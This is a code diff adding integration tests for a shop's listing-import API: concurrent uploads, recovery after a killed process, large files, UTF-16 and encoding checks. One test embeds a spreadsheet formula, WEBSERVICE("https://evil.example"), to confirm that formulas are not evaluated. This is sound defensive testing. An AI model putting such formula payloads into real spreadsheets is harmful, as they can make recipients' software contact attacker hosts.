@@ -4,6 +4,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type Actor } from '#test/actors.ts';
 import { startTestApp, type TestApp } from '#test/harness.ts';
 import { makeShop, type Shop } from '#test/shop.ts';
+import { freePort } from '../../../../../../scripts/embedded-postgres/start-embedded-postgres.ts';
+import { startPart } from '../../../../../../scripts/supervisor/child.ts';
+import { readSheet } from '../sheets/read-sheet.ts';
 import { csvOf, xlsxOf } from '../sheets/write-sheet.ts';
 
 let test: TestApp;
@@ -230,6 +233,118 @@ describe('importing listings', () => {
     expect(versions.most).toBe(1);
   }, 90_000);
 
+  it('takes one of two files that arrive at the same moment', async () => {
+    const sent = await Promise.all([1, 2, 3].map(() => send(shop.dealer, shop.dealerId, csvOf([header, row()]))));
+    expect(sent.map((answer) => answer.status).toSorted()).toEqual([202, 409, 409]);
+    const { importId } = sent.find((answer) => answer.status === 202)?.body.data ?? {};
+    await test.app.outbox.drain();
+    // Pressing "save" twice at the same moment saves once.
+    const pressed = await Promise.all([1, 2].map(() => shop.dealer.post(path(importId, '/apply'))));
+    expect(pressed.map((answer) => answer.status).toSorted()).toEqual([202, 409]);
+    await test.app.outbox.drain();
+    expect((await shop.dealer.get(path(importId))).body.data).toMatchObject({ state: 'applied', savedCount: 1 });
+  });
+
+  it('goes on where it was when the api is killed in the middle, and saves no row twice', async () => {
+    const rows = Array.from({ length: 160 }, () => row());
+    const checked = await check(csvOf([header, ...rows]));
+    expect(checked).toMatchObject({ toCreate: 160 });
+    expect((await shop.dealer.post(path(checked.importId, '/apply'))).status).toBe(202);
+    const saved = async (): Promise<number> => (await shop.dealer.get(path(checked.importId))).body.data.savedCount;
+    const { config } = test.app.services;
+    const api = startPart({
+      name: 'api',
+      script: 'apps/api/src/main.ts',
+      environment: {
+        DATABASE_URL: config.databaseUrl,
+        FILE_FOLDER: config.fileFolder,
+        KEY_FOLDER: config.keyFolder,
+        PORT: String(await freePort()),
+        LOG_LEVEL: 'silent',
+      },
+    });
+    while ((await saved()) === 0) await new Promise((resolve) => setTimeout(resolve, 50));
+    api.kill();
+    await api.ended;
+    const before = await saved();
+    expect(before).toBeGreaterThan(0);
+    expect(before).toBeLessThan(160);
+    expect((await shop.dealer.get(path(checked.importId))).body.data.state).toBe('applying');
+    await test.app.outbox.drain();
+    expect((await shop.dealer.get(path(checked.importId))).body.data).toMatchObject({
+      state: 'applied',
+      savedCount: 160,
+      failedCount: 0,
+    });
+    const { products, pieces } = await test.db
+      .selectFrom('products')
+      .innerJoin('stock', 'stock.product_id', 'products.product_id')
+      .select((where) => [where.fn.countAll<number>().as('products'), where.fn.sum<number>('quantity').as('pieces')])
+      .where(
+        'sku',
+        'in',
+        rows.map((cells) => cells[0] ?? ''),
+      )
+      .where('version', '=', 1)
+      .executeTakeFirstOrThrow();
+    expect([products, Number(pieces)]).toEqual([160, 1_120]);
+  }, 180_000);
+
+  it('checks the largest file there may be, and finds the one wrong row of it', async () => {
+    const rows = Array.from({ length: 10_000 }, (_, at) => row(at === 7_776 ? { MRP: 'free' } : {}));
+    const checked = await check(csvOf([header, ...rows]));
+    expect(checked).toMatchObject({ state: 'checked', rowCount: 10_000, toCreate: 9_999, errorCount: 1 });
+    const { body } = await shop.dealer.get(path(checked.importId, '/rows?errors=true'));
+    expect(body.data.items).toMatchObject([{ row: 7_778, errors: [{ column: 'MRP' }] }]);
+    await shop.dealer.post(path(checked.importId, '/cancel'));
+  }, 180_000);
+
+  it('reads "Unicode text" of a spreadsheet program: UTF-16 with tabs', async () => {
+    const title = 'ரெட்மி நோட் 12 டிஸ்ப்ளே';
+    const text = [header, row({ SKU: 'UTF16-1', Title: title })].map((cells) => cells.join('\t')).join('\r\n');
+    const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
+    for (const file of [bytes, Buffer.from(bytes).swap16()]) {
+      const checked = await check(file);
+      expect(checked).toMatchObject({ rowCount: 1, toCreate: 1, errorCount: 0 });
+      const { body } = await shop.dealer.get(path(checked.importId, '/rows'));
+      expect(body.data.items[0].title).toBe(title);
+      await shop.dealer.post(path(checked.importId, '/cancel'));
+    }
+  });
+
+  it('takes the value a formula of an .xlsx had when it was saved, and computes nothing', async () => {
+    const cell = (at: string, value: string) => `<c r="${at}" t="inlineStr"><is><t>${value}</t></is></c>`;
+    const sheet = `<?xml version="1.0" encoding="UTF-8"?>
+      <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
+      <row r="1">${cell('A1', 'SKU')}${cell('B1', 'Title')}${cell('C1', 'Stock')}</row>
+      <row r="2">${cell('A2', 'F-1')}<c r="B2" t="str"><f>WEBSERVICE("https://evil.example")</f><v>Display for F1</v></c><c r="C2"><f>20+1</f><v>41</v></c></row>
+      </sheetData></worksheet>`;
+    const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+    const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+    const archive = zip([
+      [
+        'xl/workbook.xml',
+        Buffer.from(
+          `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="P" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+        ),
+      ],
+      [
+        'xl/_rels/workbook.xml.rels',
+        Buffer.from(
+          `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
+        ),
+      ],
+      ['xl/worksheets/sheet1.xml', Buffer.from(sheet)],
+    ]);
+    const read = await readSheet(archive, { kind: 'xlsx', mostRows: 10 });
+    expect(read).toEqual({
+      rows: [
+        ['SKU', 'Title', 'Stock'],
+        ['F-1', 'Display for F1', '41'],
+      ],
+    });
+  });
+
   it('refuses files that are none, or that want to harm', async () => {
     const refused = async (bytes: Buffer, type?: string): Promise<string> => {
       const sent = await send(shop.dealer, shop.dealerId, bytes, type);
@@ -245,8 +360,9 @@ describe('importing listings', () => {
     expect(await refused(Buffer.from('SKU,SKU\n1,2'))).toContain('twice');
     expect(await refused(Buffer.from('SKU,Title\n'))).toContain('no rows');
     expect(await refused(Buffer.from('SKU\n"never closed'))).toContain('could not be read');
-    expect(await refused(Buffer.concat([Buffer.from('SKU\n'), Buffer.from([0xff, 0xfe, 0x41])]))).toContain(
-      'could not be read',
+    // "CSV" of an Excel in Tamil Nadu: Windows-1252, the rupee sign and every Tamil letter a question mark or worse.
+    expect(await refused(Buffer.concat([Buffer.from('SKU\n'), Buffer.from([0x93, 0x41, 0x94])]))).toContain(
+      'is not UTF-8',
     );
     expect(await refused(Buffer.from(`SKU\n${'X\n'.repeat(10_001)}`))).toContain('at most 10000');
     expect(await refused(Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200)]))).toContain('no XLSX');
